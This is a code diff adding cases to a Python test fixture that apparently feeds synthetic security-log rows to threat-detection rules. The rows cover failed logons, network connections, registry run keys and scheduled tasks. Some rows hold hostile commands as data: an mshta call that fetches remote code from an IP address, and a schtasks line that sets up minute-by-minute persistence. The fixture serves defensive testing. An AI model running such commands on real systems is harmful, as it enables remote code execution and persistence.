@@ -52,6 +52,13 @@ CASES: dict[str, tuple[str, list[Row]]] = {
     "first": ("DeviceProcessEvents", [*commands.history(), commands.command(
         5.9 * commands.DAY, "mshta http://45.77.10.20/a", name="mshta.exe", parent="explorer.exe")]),
     "unlike": ("SigninLogs", [*past.past(), past.entry(5.5 * past.DAY, **past.ABROAD, **past.OTHER)]),
+    "grant": ("AzureActivity", past.operating()),
+    "surge": ("DeviceLogonEvents", [*endpoints.failing(60), *endpoints.failed_at_once(40)]),
+    "reach": ("DeviceNetworkEvents", endpoints.reaching(8)),
+    "note": ("DeviceFileEvents", [endpoints.left(i) for i in range(12)]),
+    "run key": ("DeviceRegistryEvents", [*commands.keys(), commands.key("ws1", "Sync", commands.PLACED)]),
+    "task": ("DeviceProcessEvents", [*commands.shells(), commands.command(
+        400, r'schtasks /create /sc minute /tn "My Sync" /tr C:\Users\Public\s.exe')]),
     "hours": ("SigninLogs", [*past.working(9), past.entry(9 * past.DAY + 16 * past.HOUR)]),
 }  # fmt: skip
 
